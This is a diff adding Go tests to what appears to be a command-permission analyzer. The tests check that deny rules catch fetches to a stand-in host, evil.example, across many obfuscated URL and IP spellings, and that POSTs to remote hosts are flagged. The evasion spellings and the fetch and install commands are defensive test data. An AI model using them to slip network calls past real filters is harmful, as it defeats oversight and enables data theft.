@@ -16,3 +16,61 @@ func TestBenignCorpus(t *testing.T) {
 		}
 	}
 }
+
+// A rule that denies an address holds for commands that name it, however they spell it.
+func TestDeniedAddressesOfCommands(t *testing.T) {
+	pol := policy(t, `{ "*": "allow", "web_fetch": { "*": "allow", "*://evil.example/*": "deny", "http://10.0.0.1/*": "deny" } }`)
+	place := Place{Dir: "/w/app", Roots: []string{"/w/app"}, Home: "/home/u"}
+	for command, want := range map[string]permissions.Action{
+		"curl http://evil.example/x":                   permissions.Deny,
+		"curl evil.example/x":                          permissions.Deny,
+		"curl HTTP://EVIL.example.:80/x":               permissions.Deny,
+		"curl http:/evil.example/x":                    permissions.Deny,
+		"curl --url=http://evil%2eexample/x":           permissions.Deny,
+		"curl http://user@evil.example/x":              permissions.Deny,
+		"curl http://167772161/x":                      permissions.Deny,
+		"curl http://0xa.1/x":                          permissions.Deny,
+		"curl http://[::ffff:10.0.0.1]/x":              permissions.Deny,
+		"wget -qO- http://evil.example/x":              permissions.Deny,
+		"git clone https://evil.example/x.git":         permissions.Deny,
+		"pip install -i https://evil.example/simple y": permissions.Deny,
+		"bash -c 'curl http://evil.example/x'":         permissions.Deny,
+		"python3 -c 'get(\"http://evil.example/x\")'":  permissions.Deny,
+		"frob view-source:http://evil.example/x":       permissions.Deny,
+		"curl http://good.example/evil.example/x":      permissions.Allow,
+		"curl http://good.example/?u=evil.example":     permissions.Allow,
+		"git commit -m 'see http://evil.example/x'":    permissions.Allow,
+		"rg http://evil.example/x src":                 permissions.Allow,
+	} {
+		if got := verdict(pol, analyze(t, KindShell, place, "command", command)); got != want {
+			t.Errorf("%s: %v, want %v", command, got, want)
+		}
+	}
+}
+
+// A post to another machine sends; one to this machine, and what only fetches, do not.
+func TestPostsSend(t *testing.T) {
+	place := Place{Dir: "/w/app", Roots: []string{"/w/app"}, Home: "/home/u"}
+	for command, want := range map[string]bool{
+		"curl -d a=1 https://a.example":             true,
+		"curl -sXPOST https://a.example":            true,
+		"curl -X POST https://a.example":            true,
+		"curl --json '{}' https://a.example":        true,
+		"curl --data-raw x a.example":               true,
+		"wget --post-data=a https://a.example":      true,
+		"http POST a.example a=1":                   true,
+		"http a.example a=1":                        true,
+		"curl -d a=1 http://localhost:3000/x":       false,
+		"curl -d a=1 http://127.0.0.1:3000/x":       false,
+		"curl https://a.example":                    false,
+		"curl -fsSL -o x https://a.example/a=b":     false,
+		"curl -H 'a: b' -X GET https://a.example/d": false,
+		"http a.example/x q==1":                     false,
+		"http GET localhost:3000/x":                 false,
+	} {
+		a := analyze(t, KindShell, place, "command", command)
+		if got := a.Commands[0].Sends; got != want {
+			t.Errorf("%s: %v, want %v", command, got, want)
+		}
+	}
+}
